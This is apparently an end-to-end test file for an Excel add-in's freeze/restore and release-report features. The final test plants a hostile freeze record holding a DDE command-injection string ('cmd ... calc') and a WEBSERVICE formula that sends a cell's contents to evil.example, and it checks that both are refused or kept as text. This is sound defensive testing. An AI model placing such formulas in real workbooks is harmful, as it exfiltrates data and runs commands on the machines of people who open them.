// Freeze → Restore and the release's changes on the preview page (mock Excel host + the
// real bundles) against the in-process emulator, used the way a person uses them: the
// ribbon's Freeze menu, the Usage tab's buttons, Refresh all and Write report.
import type { Page } from "playwright-core";
import {
  openPreview,
  screenshot,
  signIn,
  startPreviewFixture,
  type PreviewFixture,
  type PreviewPage,
} from "./support/preview-fixture";

// Generous: a loaded 2-core machine runs a browser, the emulator and other suites at once.
jest.setTimeout(120_000);

let fixture: PreviewFixture;
let opened: PreviewPage[] = [];

beforeAll(async () => {
  fixture = await startPreviewFixture();
}, 180_000);

afterAll(async () => {
  await fixture?.close();
});

afterEach(async () => {
  for (const preview of opened) {
    expect(preview.errors).toEqual([]);
    await preview.close();
  }
  opened = [];
});

async function open(): Promise<PreviewPage> {
  const preview = await openPreview(fixture);
  opened.push(preview);
  return preview;
}

/** Two series codes from the catalog (gas in Germany). */
async function twoCodes(preview: PreviewPage): Promise<[string, string]> {
  await preview.pane.getByRole("searchbox", { name: "Search series" }).fill("gas germany");
  await preview.pane.getByTestId("series-count").filter({ hasText: 'for "gas germany"' }).waitFor();
  const options = preview.pane.locator("[role=option]");
  return [
    (await options.nth(1).getAttribute("data-code")) ?? "",
    (await options.nth(2).getAttribute("data-code")) ?? "",
  ];
}

async function settled(page: Page, addresses: readonly string[]): Promise<void> {
  await page.waitForFunction(
    (cells) =>
      cells.every((cell) => {
        const shown = window.__pcdPreview.cell(cell);
        return shown.text !== "" && !shown.busy;
      }),
    addresses,
  );
}

const content = (page: Page, address: string) =>
  page.evaluate((cell) => window.__pcdPreview.cell(cell).content, address);

test("freeze the sheet from the ribbon, then restore: edited cells are reported and kept", async () => {
  const preview = await open();
  const { page, pane } = preview;
  await signIn(fixture, pane);
  const [table, single] = await twoCodes(preview);
  const tableFormula = `=PCD.VALUES("${table}",,,"2025-01","2025-03",0,0)`;
  const singleFormula = `=PCD.VALUE("${single}","2025-02")`;
  await page.evaluate(
    ([a, b]) => {
      window.__pcdPreview.enter("A1", a ?? "");
      window.__pcdPreview.enter("E1", b ?? "");
    },
    [tableFormula, singleFormula],
  );
  await settled(page, ["A1", "E1"]);
  const shownBefore = await page.evaluate(() => window.__pcdPreview.texts("A1:B3"));
  const singleBefore = await page.evaluate(() => window.__pcdPreview.cell("E1").text);
  expect(shownBefore.flat().every((text) => text !== "")).toBe(true);

  // A cell still #BUSY! or in error refuses the freeze, naming the cell.
  await page.evaluate(() => window.__pcdPreview.enter("G1", '=PCD.VALUE("no-such-code")'));
  await settled(page, ["G1"]);
  await pane.getByRole("tab", { name: "Usage" }).click();
  await page.getByTestId("ribbon-freeze").selectOption("freezeSheet");
  const outcome = pane.getByTestId("freeze-outcome");
  await outcome.filter({ hasText: "Nothing was frozen" }).waitFor();
  expect(await outcome.textContent()).toContain("Sheet1!G1 (#");
  expect(await content(page, "A1")).toBe(tableFormula);
  await page.evaluate(() => window.__pcdPreview.enter("G1", ""));

  // Freeze the sheet from the ribbon's Freeze menu.
  await page.getByTestId("ribbon-freeze").selectOption("freezeSheet");
  await outcome.filter({ hasText: "Froze 2 PCD cells" }).waitFor();
  expect(await content(page, "A1")).not.toMatch(/^=/);
  expect(await content(page, "B3")).not.toBe("");
  expect(await content(page, "E1")).not.toMatch(/^=/);
  // The same texts as before: dates keep their date format.
  expect(await page.evaluate(() => window.__pcdPreview.texts("A1:B3"))).toEqual(shownBefore);
  expect(await page.evaluate(() => window.__pcdPreview.cell("E1").text)).toBe(singleBefore);

  // Provenance, twice: the document settings and the visible "PCD sources" sheet.
  const record = (await page.evaluate(() => window.__pcdPreview.setting("pcd.frozen"))) as {
    cells: Array<{
      address: string;
      formula: string;
      range: string;
      series: Array<{ code: string; retrievedAt: string | null }>;
    }>;
  };
  expect(record.cells.map((cell) => [cell.address, cell.formula, cell.range])).toEqual([
    ["Sheet1!A1", tableFormula, "Sheet1!A1:B3"],
    ["Sheet1!E1", singleFormula, "Sheet1!E1"],
  ]);
  expect(record.cells[0]?.series[0]?.code).toBe(table);
  expect(record.cells[0]?.series[0]?.retrievedAt).toMatch(/^2026-11-10T/);
  expect(await page.evaluate(() => window.__pcdPreview.sheetNames())).toEqual(["Sheet1", "PCD sources"]);
  const sources = await page.evaluate(() => window.__pcdPreview.sheet("PCD sources"));
  expect(sources[0]?.slice(0, 8)).toEqual([
    "Series",
    "Description",
    "Currency",
    "Unit",
    "Release",
    "Latest month",
    "Date retrieved",
    "Data owner",
  ]);
  expect(sources.slice(1, 3).map((row) => [row[0], row[6], row[8]])).toEqual([
    [table, "2026-11-10", "Sheet1!A1:B3"],
    [single, "2026-11-10", "Sheet1!E1"],
  ]);
  await page.getByTestId("other-sheets").getByRole("region", { name: "PCD sources" }).waitFor();
  await screenshot(page, "freeze-sheet");

  // Someone types over a frozen number; Restore all brings back the rest and reports it.
  await page.evaluate(() => window.__pcdPreview.enter("E1", "123"));
  await pane.getByRole("button", { name: "Restore all" }).click();
  await outcome.filter({ hasText: "Restored 1 formula" }).waitFor();
  expect(await outcome.textContent()).toContain(
    "Not restored, Sheet1!E1 changed since the freeze in one cell: E1 (frozen ",
  );
  expect(await outcome.textContent()).toContain("now 123)");
  expect(await content(page, "A1")).toBe(tableFormula);
  expect(await content(page, "E1")).toBe("123");
  await settled(page, ["A1"]);
  expect(await page.evaluate(() => window.__pcdPreview.texts("A1:B3"))).toEqual(shownBefore);
  const left = (await page.evaluate(() => window.__pcdPreview.setting("pcd.frozen"))) as {
    cells: Array<{ address: string }>;
  };
  expect(left.cells.map((cell) => cell.address)).toEqual(["Sheet1!E1"]);
  await screenshot(page, "restore-reported");
});

test("restore selection puts back only the frozen cells in the selection", async () => {
  const preview = await open();
  const { page, pane } = preview;
  await signIn(fixture, pane);
  const [first, second] = await twoCodes(preview);
  await page.evaluate(
    ([a, b]) => {
      window.__pcdPreview.enter("A1", `=PCD.VALUE("${a}","2025-02")`);
      window.__pcdPreview.enter("A2", `=PCD.VALUE("${b}","2025-02")`);
    },
    [first, second],
  );
  await settled(page, ["A1", "A2"]);
  await pane.getByRole("tab", { name: "Usage" }).click();
  await pane.getByRole("button", { name: "Freeze workbook" }).click();
  const outcome = pane.getByTestId("freeze-outcome");
  await outcome.filter({ hasText: "Froze 2 PCD cells" }).waitFor();
  await page.evaluate(() => window.__pcdPreview.select("A2"));
  await pane.getByRole("button", { name: "Restore selection" }).click();
  await outcome.filter({ hasText: "Restored 1 formula." }).waitFor();
  expect(await content(page, "A1")).not.toMatch(/^=/);
  expect(await content(page, "A2")).toBe(`=PCD.VALUE("${second}","2025-02")`);
});

test("after a release, the pane lists what changed and Write report creates the month's sheet, biggest change first", async () => {
  const preview = await open();
  const { page, pane } = preview;
  await signIn(fixture, pane);
  const [revised, extended] = await twoCodes(preview);
  await page.evaluate(
    ([a, b]) => {
      window.__pcdPreview.enter("A1", `=PCD.VALUES("${a}",,,,,0,0,1)`);
      window.__pcdPreview.enter("D1", `=PCD.VALUES("${b}",,,,,0,0,1)`);
    },
    [revised, extended],
  );
  await settled(page, ["A1", "D1"]);
  await pane.getByRole("tab", { name: "Usage" }).click();
  await pane.getByTestId("refresh-cost").waitFor();
  await fixture.admin("/__admin/release", { revise: [revised] });
  const section = pane.getByRole("region", { name: "Refresh this workbook" });
  await section.getByRole("button", { name: "Refresh all" }).click();
  const changes = section.getByTestId("release-changes");
  await changes.waitFor({ timeout: 30_000 });
  const heading = (await changes.locator("p, span").first().textContent()) ?? "";
  expect(heading).toMatch(/What changed: \d+ new months?, \d+ revised months? in 2 series/);
  const items = await changes.getByRole("listitem").allTextContents();
  // The biggest changes first: the revised series' history heads the list (12 rows at most).
  expect(items.length).toBeGreaterThan(0);
  expect(items.length).toBeLessThanOrEqual(12);
  expect(items[0]).toMatch(new RegExp(`^${revised}.*: revised .* → .*%\\)$`));
  await screenshot(page, "release-changes");

  await changes.getByRole("button", { name: "Write report" }).click();
  await changes.getByText('to the sheet "PCD changes 2026-11"').waitFor();
  expect(await page.evaluate(() => window.__pcdPreview.sheetNames())).toContain("PCD changes 2026-11");
  const report = await page.evaluate(() => window.__pcdPreview.sheet("PCD changes 2026-11"));
  expect(report[0]).toEqual([
    "Series",
    "Currency",
    "Unit",
    "Month",
    "Change",
    "Old value",
    "New value",
    "Change %",
  ]);
  const rows = report.slice(1).filter((row) => row[0] !== "");
  expect(rows.length).toBeGreaterThanOrEqual(items.length);
  // Revisions first, by |change %| descending; new months after them (the release's new month of both series).
  const kinds = rows.map((row) => row[4]);
  expect(
    rows
      .filter((row) => row[4] === "new month")
      .map((row) => row[0])
      .sort(),
  ).toEqual([revised, extended].sort());
  expect(kinds.indexOf("new month")).toBeGreaterThan(kinds.lastIndexOf("revised"));
  const sizes = rows
    .filter((row) => row[4] === "revised" && row[7] !== "")
    .map((row) => Math.abs(Number(row[7])));
  expect(sizes.length).toBeGreaterThan(0);
  expect([...sizes].sort((a, b) => b - a)).toEqual(sizes);
  await screenshot(page, "release-report");
});

test("a freeze record planted in a shared workbook: hostile entries are refused, others restored once confirmed, and its texts stay text", async () => {
  const preview = await open();
  const { page, pane } = preview;
  await signIn(fixture, pane);
  const [code] = await twoCodes(preview);
  const formula = `=PCD.VALUE("${code}","2025-02")`;
  const dde = "=cmd|' /C calc'!A0";
  const entry = (address: string, cellFormula: string, value: string | number, description: string) => ({
    address,
    formula: cellFormula,
    range: address,
    values: [[value]],
    numberFormats: [["General"]],
    series: [
      {
        code,
        currency: null,
        unit: null,
        releaseMonth: "2026-10",
        latestMonth: "2026-09",
        retrievedAt: null,
        description,
        owner: "PCD",
      },
    ],
    frozenAt: "2026-11-01T00:00:00.000Z",
  });
  await page.evaluate(
    ([planted]) => {
      window.__pcdPreview.enter("A1", "secret");
      window.__pcdPreview.enter("H20", "keep");
      window.__pcdPreview.enter("C3", "12.5");
      window.__pcdPreview.setSetting("pcd.frozen", planted);
    },
    [
      {
        version: 1,
        cells: [
          entry("Sheet1!H20", '=WEBSERVICE("https://evil.example/c?d="&Sheet1!A1)', "keep", dde),
          entry("Sheet1!C3", formula, 12.5, "Natural gas"),
        ],
      },
    ],
  );
  await pane.getByRole("tab", { name: "Usage" }).click();
  await pane.getByRole("button", { name: "Restore all" }).click();
  const outcome = pane.getByTestId("freeze-outcome");
  await outcome.filter({ hasText: "not frozen on this computer" }).waitFor();
  expect(await outcome.textContent()).toContain(
    "Not restored, the workbook's freeze record is not one PCD wrote: Sheet1!H20 (its formula is not a PCD formula)",
  );
  const confirm = pane.getByTestId("restore-confirm");
  expect(await confirm.locator("li").allTextContents()).toEqual([`Sheet1!C3: ${formula}`]);
  expect(await content(page, "C3")).toBe("12.5");
  await screenshot(page, "restore-confirm");

  await confirm.getByRole("button", { name: "Restore this formula" }).click();
  await outcome.filter({ hasText: "Restored 1 formula." }).waitFor();
  expect(await content(page, "C3")).toBe(formula);
  expect(await content(page, "H20")).toBe("keep");
  expect(await content(page, "A1")).toBe("secret");
  // The refused entry's hostile description is listed on the sources sheet as text.
  const sources = await page.evaluate(() => window.__pcdPreview.sheet("PCD sources"));
  expect(sources[1]?.[1]).toBe(dde);
  expect(await pane.getByTestId("restore-confirm").count()).toBe(0);
});
